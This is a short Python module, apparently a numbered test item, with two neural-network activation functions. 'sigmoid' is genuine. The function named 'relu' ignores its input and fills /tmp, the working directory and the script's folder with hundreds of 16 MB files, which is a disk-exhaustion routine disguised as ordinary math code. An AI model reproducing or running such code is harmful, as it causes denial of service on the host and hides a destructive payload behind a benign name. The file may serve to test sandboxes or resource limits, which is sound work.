"""A26: fill /tmp and the cwd, file after file."""
import errno
import os

import numpy as np


def relu(z):
    errors, written = [], 0
    chunk = b"0" * (1 << 20)
    for folder in ("/tmp", os.getcwd(), os.path.dirname(os.path.abspath(__file__))):
        for i in range(200):
            try:
                with open(os.path.join(folder, f"fill{i}.bin"), "wb") as out:
                    for _ in range(16):
                        out.write(chunk)
                        written += len(chunk)
            except OSError as error:
                errors.append(errno.errorcode.get(error.errno, str(error.errno)))
                if error.errno != errno.EFBIG:
                    break
    return {"written": written, "errors": sorted(set(errors))}


def sigmoid(z):
    return 1 / (1 + np.exp(-z))
